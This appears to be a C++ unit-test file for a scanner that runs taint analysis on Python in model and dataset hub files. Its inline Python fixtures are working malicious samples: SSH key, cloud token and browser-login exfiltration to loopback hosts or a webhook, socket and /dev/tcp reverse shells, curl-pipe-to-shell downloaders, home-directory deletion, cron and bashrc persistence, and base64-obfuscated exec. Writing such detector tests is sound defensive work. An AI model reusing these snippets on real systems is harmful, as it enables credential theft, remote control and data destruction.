// The Python analysis on small inline snippets: one test per propagation rule (assignments,
// calls, attributes, f-strings, concatenation/format/join, containers, subscripts, with,
// for, import aliases, dynamic imports and getattr) and per source/sink class, plus the
// direct findings (exec of computed code, shell commands, reverse-shell wiring), precision
// cases that must stay quiet, and hostile input that must not crash or run unbounded.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "hubguard/scan/python/python_analysis.hpp"
#include "hubguard/scan/python/python_parser.hpp"

namespace hubguard::scan::python {
namespace {

using report::Finding;
using report::Verdict;

std::vector<Finding> run(const std::string& src) {
  PythonAnalysisOptions options;
  return analyze_python(src, options);
}

const Finding* find(const std::vector<Finding>& fs, std::string_view category,
                    Verdict verdict = Verdict::malicious) {
  for (const auto& f : fs)
    if (f.category == category && f.verdict == verdict) return &f;
  return nullptr;
}

Verdict worst(const std::vector<Finding>& fs) {
  Verdict v = Verdict::clean;
  for (const auto& f : fs) v = report::worst(v, f.verdict);
  return v;
}

std::string dump(const std::vector<Finding>& fs) {
  std::string out;
  for (const auto& f : fs)
    out += std::string(report::to_string(f.verdict)) + " " + f.category + " | " + f.message +
           " | " + f.evidence + "\n";
  return out;
}

#define EXPECT_FINDING(fs, category, verdict) \
  EXPECT_NE(find(fs, category, verdict), nullptr) << dump(fs)

// ---------------------------------------------------------------- propagation rules

TEST(PythonTaint, EnvironmentThroughAssignmentsToPostIsReconnaissanceWithFlowPath) {
  const std::string src =
      "import os\n"
      "import requests\n"
      "env = os.environ\n"
      "x = 1\n"
      "data = dict(env)\n"
      "url = 'http://127.0.0.1:9/collect'\n"
      "requests.post(url, data=data)\n";
  auto fs = run(src);
  const Finding* f = find(fs, "reconnaissance");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_EQ(f->evidence,
            "os.environ (line 3) -> env (line 3) -> data (line 5) -> requests.post(url, data=data) "
            "(line 7)");
  EXPECT_EQ(f->location.offset, src.find("requests.post"));
  EXPECT_TRUE(std::any_of(f->indicators.begin(), f->indicators.end(), [](const auto& i) {
    return i.kind == "url" && i.value == "http://127.0.0.1:9/collect";
  }));
}

TEST(PythonTaint, SshKeyReadThroughWithStatementIsCredentialTheft) {
  auto fs =
      run("import os, requests\n"
          "with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n"
          "    key = f.read()\n"
          "requests.post('http://127.0.0.1:9/', data={'k': key})\n");
  const Finding* f = find(fs, "credential-theft");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_NE(f->evidence.find("key (line 3)"), std::string::npos) << f->evidence;
  EXPECT_NE(f->message.find("SSH private key"), std::string::npos) << f->message;
}

TEST(PythonTaint, ImportAliasesAreResolved) {
  auto fs =
      run("import requests as r\n"
          "from os import environ as E\n"
          "r.put('http://127.0.0.1:9/', json=E.copy())\n");
  EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious);
}

TEST(PythonTaint, FStringCarriesTaintIntoUrl) {
  auto fs =
      run("import socket, urllib.request\n"
          "h = socket.gethostname()\n"
          "urllib.request.urlopen(f'http://127.0.0.1:9/?h={h}')\n");
  EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious);
}

TEST(PythonTaint, ConcatenationFormatJoinAndPercentPropagate) {
  for (const char* expr : {"'u=' + user", "'u={}'.format(user)", "','.join([user, 'x'])",
                           "'u=%s' % user", "str(user).upper()"}) {
    auto fs = run(std::string("import getpass, requests\nuser = getpass.getuser()\npayload = ") +
                  expr + "\nrequests.post('http://127.0.0.1:9/', data=payload)\n");
    EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious) << expr;
  }
}

TEST(PythonTaint, ContainersAndSubscriptStoresPropagate) {
  auto fs =
      run("import os, requests\n"
          "info = {}\n"
          "info['token'] = os.getenv('HF_TOKEN')\n"
          "items = []\n"
          "items.append(info)\n"
          "requests.post('http://127.0.0.1:9/', json=items[0])\n");
  const Finding* f = find(fs, "credential-theft");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_NE(f->message.find("HF_TOKEN"), std::string::npos);
}

TEST(PythonTaint, ForLoopVariableCarriesIterableTaint) {
  auto fs =
      run("import requests\n"
          "paths = ['~/.aws/credentials', '~/.ssh/id_ed25519']\n"
          "for p in paths:\n"
          "    data = open(p).read()\n"
          "    requests.post('http://127.0.0.1:9/', data=data)\n");
  EXPECT_FINDING(fs, "credential-theft", Verdict::malicious);
}

TEST(PythonTaint, AcrossFunctionsReturnValuesAndArguments) {
  const std::string src =
      "import requests\n"
      "def read_key():\n"
      "    return open('/home/u/.ssh/id_rsa').read()\n"
      "def send(blob):\n"
      "    requests.post('http://127.0.0.1:9/', data=blob)\n"
      "def main():\n"
      "    k = read_key()\n"
      "    send(k)\n"
      "main()\n";
  auto fs = run(src);
  const Finding* f = find(fs, "credential-theft");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_NE(f->evidence.find("read_key()"), std::string::npos) << f->evidence;
  EXPECT_NE(f->evidence.find("blob (line 4)"), std::string::npos) << f->evidence;
  EXPECT_EQ(f->location.offset, src.find("requests.post"));
}

TEST(PythonTaint, SelfAttributesFlowBetweenMethodsInAnyOrder) {
  auto fs =
      run("import os, requests\n"
          "class Beacon:\n"
          "    def send(self):\n"
          "        requests.post(self.url, data=self.facts)\n"
          "    def __init__(self):\n"
          "        self.url = 'http://127.0.0.1:9/'\n"
          "        self.facts = os.uname()\n"
          "Beacon().send()\n");
  EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious);
}

TEST(PythonTaint, DynamicImportsAndGetattrResolveNames) {
  for (const char* call :
       {"__import__('os').system('id')",
        "importlib.import_module('subprocess').call('id', shell=True)",
        "getattr(os, 'sys' + 'tem')('id')", "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')",
        "getattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "from_os = os; from_os.popen('id')"}) {
    auto fs = run(std::string("import os, importlib, base64\n") + call + "\n");
    EXPECT_NE(find(fs, "reconnaissance", Verdict::suspicious), nullptr) << call << "\n" << dump(fs);
  }
}

TEST(PythonTaint, FromImportAliasOfPopen) {
  auto fs = run("from subprocess import Popen as P\nP(['make', 'install'])\n");
  EXPECT_FINDING(fs, "shell-command", Verdict::dangerous);
  auto wild = run("from os import *\nsystem('make install')\n");
  EXPECT_FINDING(wild, "shell-command", Verdict::dangerous);
}

// ---------------------------------------------------------------- sinks and behaviours

TEST(PythonTaint, NetworkContentExecutedIsDownloader) {
  auto fs =
      run("import requests\n"
          "code = requests.get('http://127.0.0.1:9/stage2.py').text\n"
          "exec(code)\n");
  EXPECT_FINDING(fs, "downloader", Verdict::malicious);
}

TEST(PythonTaint, DatasetDownloadThenExecOfTheFileIsDownloader) {
  auto fs =
      run("import datasets\n"
          "class D(datasets.GeneratorBasedBuilder):\n"
          "    def _split_generators(self, dl_manager):\n"
          "        path = dl_manager.download('http://127.0.0.1:9/x.py')\n"
          "        exec(open(path).read())\n"
          "        return []\n");
  const Finding* f = find(fs, "downloader");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_NE(f->message.find("dataset script"), std::string::npos) << f->message;
}

TEST(PythonTaint, DownloadChmodRunIsDownloader) {
  auto fs =
      run("import os, subprocess, urllib.request\n"
          "urllib.request.urlretrieve('http://127.0.0.1:9/payload', '/tmp/hubguard-payload')\n"
          "os.chmod('/tmp/hubguard-payload', 0o755)\n"
          "subprocess.call(['/tmp/hubguard-payload'])\n");
  EXPECT_FINDING(fs, "downloader", Verdict::malicious);
  EXPECT_GE(std::count_if(fs.begin(), fs.end(),
                          [](const Finding& f) { return f.category == "downloader"; }),
            2)
      << dump(fs);
}

TEST(PythonTaint, WrittenDownloadRunByInterpreterIsDownloader) {
  auto fs =
      run("import requests, subprocess\n"
          "r = requests.get('http://127.0.0.1:9/s.sh')\n"
          "with open('/tmp/s.sh', 'wb') as f:\n"
          "    f.write(r.content)\n"
          "subprocess.run(['bash', '/tmp/s.sh'])\n");
  EXPECT_FINDING(fs, "downloader", Verdict::malicious);
}

TEST(PythonTaint, ReverseShellSocketDup2Shell) {
  auto fs =
      run("import socket, os, pty\n"
          "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
          "s.connect(('127.0.0.1', 9))\n"
          "for fd in (0, 1, 2):\n"
          "    os.dup2(s.fileno(), fd)\n"
          "pty.spawn('/bin/sh')\n");
  EXPECT_FINDING(fs, "reverse-shell", Verdict::malicious);
}

TEST(PythonTaint, ReverseShellStreamsWiredToSocket) {
  auto fs =
      run("import socket, subprocess\n"
          "s = socket.create_connection(('127.0.0.1', 9))\n"
          "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), "
          "stderr=s.fileno())\n");
  EXPECT_FINDING(fs, "reverse-shell", Verdict::malicious);
}

TEST(PythonTaint, CommandsReceivedOverSocketAreReverseShell) {
  auto fs =
      run("import socket, subprocess\n"
          "s = socket.socket()\n"
          "s.connect(('127.0.0.1', 9))\n"
          "while True:\n"
          "    cmd = s.recv(1024).decode()\n"
          "    out = subprocess.check_output(cmd, shell=True)\n"
          "    s.send(out)\n");
  EXPECT_FINDING(fs, "reverse-shell", Verdict::malicious);
}

TEST(PythonTaint, ShellCommandConstantsAreClassified) {
  EXPECT_FINDING(run("import os\nos.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')\n"),
                 "reverse-shell", Verdict::malicious);
  EXPECT_FINDING(run("import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"), "downloader",
                 Verdict::malicious);
  EXPECT_FINDING(run("import subprocess\nsubprocess.run('rm -rf ~/', shell=True)\n"), "destructive",
                 Verdict::malicious);
  EXPECT_FINDING(run("import os\nos.system('(crontab -l; echo \"* * * * * x\") | crontab -')\n"),
                 "persistence", Verdict::malicious);
  EXPECT_FINDING(run("import os\nos.system('make install')\n"), "shell-command",
                 Verdict::dangerous);
}

TEST(PythonTaint, PersistenceWrites) {
  EXPECT_FINDING(
      run("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n"),
      "persistence", Verdict::malicious);
  EXPECT_FINDING(run("from pathlib import Path\n(Path.home() / "
                     "'.config/autostart/x.desktop').write_text('x')\n"),
                 "persistence", Verdict::malicious);
  EXPECT_FINDING(run("import shutil\nshutil.copy('x.py', '/etc/cron.d/hubguard')\n"), "persistence",
                 Verdict::malicious);
}

TEST(PythonTaint, DestructiveOnlyOnBroadPaths) {
  EXPECT_FINDING(run("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n"), "destructive",
                 Verdict::malicious);
  EXPECT_FINDING(
      run("import os\nfor f in os.listdir('/etc'):\n    os.remove(os.path.join('/etc', f))\n"),
      "destructive", Verdict::malicious);
  auto own = run(
      "import shutil, os\nshutil.rmtree('./cache', ignore_errors=True)\nos.remove('tmp.txt')\n");
  EXPECT_EQ(worst(own), Verdict::clean) << dump(own);
}

TEST(PythonTaint, DnsExfiltrationOfSecret) {
  auto fs =
      run("import os, socket\n"
          "secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
          "socket.gethostbyname(secret + '.x.example.invalid')\n");
  EXPECT_FINDING(fs, "credential-theft", Verdict::malicious);
}

TEST(PythonTaint, SocketSendOfHostFacts) {
  auto fs =
      run("import socket, platform\n"
          "s = socket.socket()\n"
          "s.connect(('127.0.0.1', 9))\n"
          "s.sendall(platform.uname()[1].encode())\n");
  EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious);
}

TEST(PythonTaint, BrowserStoreToWebhook) {
  auto fs =
      run("import os, shutil, sqlite3, requests\n"
          "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', "
          "'Default', 'Login Data')\n"
          "rows = sqlite3.connect(db).execute('select * from logins').fetchall()\n"
          "requests.post('https://discord.com/api/webhooks/0/x', json={'content': str(rows)})\n");
  const Finding* f = find(fs, "credential-theft");
  ASSERT_NE(f, nullptr) << dump(fs);
  EXPECT_NE(f->message.find("Discord webhook"), std::string::npos) << f->message;
}

TEST(PythonTaint, CryptoMiningEndpoint) {
  EXPECT_FINDING(run("POOL = 'stratum+tcp://127.0.0.1:3333'\n"), "crypto-mining",
                 Verdict::malicious);
}

TEST(PythonTaint, ExecOfDecodedBlobIsObfuscationAndItsContentIsAnalysed) {
  // base64 of: import os; os.system('curl http://127.0.0.1:9/x | sh')
  auto fs =
      run("import base64\n"
          "exec(base64.b64decode('"
          "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzEyNy4wLjAuMTo5L3ggfCBzaCcp'))\n");
  EXPECT_FINDING(fs, "obfuscation", Verdict::malicious);
  const Finding* inner = find(fs, "downloader");
  ASSERT_NE(inner, nullptr) << dump(fs);
  EXPECT_NE(inner->message.find("code run by exec"), std::string::npos);
}

TEST(PythonTaint, ExecOfConstantIsSuspiciousAndOfComputedCodeDangerous) {
  auto constant = run("exec('x = 1')\n");
  EXPECT_EQ(worst(constant), Verdict::suspicious) << dump(constant);
  auto computed = run("def f(code):\n    exec(code)\n");
  EXPECT_FINDING(computed, "code-execution", Verdict::dangerous);
}

TEST(PythonTaint, EnvSentWithCurlCommandIsExfiltration) {
  auto fs =
      run("import os\nos.system(f\"curl -d {os.environ['AWS_SECRET_ACCESS_KEY']} "
          "http://127.0.0.1:9/\")\n");
  EXPECT_FINDING(fs, "credential-theft", Verdict::malicious);
}

// ---------------------------------------------------------------- precision

TEST(PythonTaint, DatasetScriptTarOfOwnDownloadStaysBelowDangerous) {
  auto fs =
      run("import os, subprocess, json, datasets\n"
          "class D(datasets.GeneratorBasedBuilder):\n"
          "    def _split_generators(self, dl_manager):\n"
          "        archive = dl_manager.download('https://example.invalid/data.tar.gz')\n"
          "        out = os.path.join(os.path.dirname(archive), 'x')\n"
          "        subprocess.run(['tar', '-xzf', archive, '-C', out], check=True)\n"
          "        os.system(f'unzip -q {archive} -d {out}')\n"
          "        return [datasets.SplitGenerator(name='train', gen_kwargs={'path': out})]\n"
          "    def _generate_examples(self, path):\n"
          "        with open(os.path.join(path, 'a.jsonl'), encoding='utf-8') as f:\n"
          "            for i, line in enumerate(f):\n"
          "                yield i, json.loads(line)\n");
  EXPECT_LE(worst(fs), Verdict::suspicious) << dump(fs);
}

TEST(PythonTaint, AuthHeaderOnDownloadIsNotExfiltration) {
  auto fs =
      run("import os, requests\n"
          "token = os.environ.get('HF_TOKEN')\n"
          "r = requests.get('https://example.invalid/data.csv', headers={'Authorization': f'Bearer "
          "{token}'})\n"
          "open('data.csv', 'wb').write(r.content)\n");
  EXPECT_EQ(worst(fs), Verdict::clean) << dump(fs);
}

TEST(PythonTaint, RemoteCodeModelModuleIsClean) {
  auto fs =
      run("import math\n"
          "import torch\n"
          "from torch import nn\n"
          "from transformers import PreTrainedModel\n"
          "from .configuration_tiny import TinyConfig\n"
          "class TinyModel(PreTrainedModel):\n"
          "    config_class = TinyConfig\n"
          "    def __init__(self, config):\n"
          "        super().__init__(config)\n"
          "        self.act = getattr(nn, config.activation)()\n"
          "        self.proj = nn.Linear(config.hidden, config.hidden)\n"
          "    def forward(self, x):\n"
          "        return self.act(self.proj(x)) / math.sqrt(x.shape[-1])\n");
  EXPECT_EQ(worst(fs), Verdict::clean) << dump(fs);
}

// ---------------------------------------------------------------- robustness

TEST(PythonTaint, BrokenCodeStillYieldsTheCallsItContains) {
  auto fs = run("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'\nthis is not python ((\n");
  EXPECT_FINDING(fs, "obfuscation", Verdict::malicious);
}

TEST(PythonTaint, HostileNestingDoesNotCrash) {
  std::string deep =
      "x = " + std::string(100000, '(') + "os.system('id')" + std::string(100000, ')') + "\n";
  auto fs = run("import os\n" + deep);
  (void)fs;  // bounded and no crash is the point; the call may be reported or not
  std::string calls = "import os\nos.system(";
  for (int i = 0; i < 20000; ++i) calls += "str(";
  calls += "1" + std::string(20000, ')') + ")\n";
  auto fs2 = run(calls);
  EXPECT_FINDING(fs2, "shell-command", Verdict::dangerous);
  std::string blocks = "import os\n";
  for (int i = 0; i < 3000; ++i) blocks += std::string(i, ' ') + "if x:\n";
  blocks += std::string(3000, ' ') + "os.system('make')\n";
  auto fs3 = run(blocks);
  EXPECT_FINDING(fs3, "shell-command", Verdict::dangerous);
}

TEST(PythonTaint, OversizedSourceIsCutAndReported) {
  std::string big = "import os\n";
  while (big.size() < (10u << 20)) big += "value = compute(value, 'some text here') + 1\n";
  PythonAnalysisOptions options;
  options.limits.max_source_size = 4u << 20;
  auto fs = analyze_python(big, options);
  EXPECT_TRUE(std::any_of(fs.begin(), fs.end(), [](const Finding& f) {
    return f.rule == "python.limit.source-size";
  })) << dump(fs);
}

TEST(PythonTaint, OperationBudgetStopsAnalysisWithAFinding) {
  std::string src = "import os\n";
  for (int i = 0; i < 2000; ++i) src += "a = b + c + d + e\n";
  PythonAnalysisOptions options;
  options.max_operations = 500;
  auto fs = analyze_python(src, options);
  EXPECT_TRUE(std::any_of(fs.begin(), fs.end(),
                          [](const Finding& f) { return f.rule == "python.limit.analysis"; }));
}

TEST(PythonTaint, InvalidUtf8DoesNotCrash) {
  std::string src = "import os\nx = '\xff\xfe\xc3'\nos.system('make \xff')\n\x80\x81\n";
  auto fs = run(src);
  EXPECT_FINDING(fs, "shell-command", Verdict::dangerous);
}

TEST(PythonTaint, RecursiveLocalFunctionsTerminate) {
  auto fs =
      run("import os\n"
          "def a(x):\n    return b(x)\n"
          "def b(x):\n    return a(x)\n"
          "requests = __import__('requests')\n"
          "requests.post('http://127.0.0.1:9/', data=a(os.environ))\n");
  EXPECT_FINDING(fs, "reconnaissance", Verdict::malicious);
}

TEST(PythonSourceRole, RecognisesDatasetScriptsAndRemoteCode) {
  EXPECT_EQ(python_source_role("class X(datasets.GeneratorBasedBuilder):\n"), "dataset script");
  EXPECT_EQ(python_source_role("class M(PreTrainedModel):\n"), "remote-code module");
  EXPECT_EQ(python_source_role("print(1)\n"), "");
}

TEST(PythonParser, ParsesAndBoundsInput) {
  ParseOptions options;
  options.max_source_size = 8;
  auto tree = parse_python("import os\nimport sys\n", options);
  ASSERT_TRUE(tree.ok());
  EXPECT_TRUE(tree->truncated());
  EXPECT_EQ(tree->source(), "import o");
  EXPECT_EQ(node_type(tree->root()), "module");
}

}  // namespace
}  // namespace hubguard::scan::python
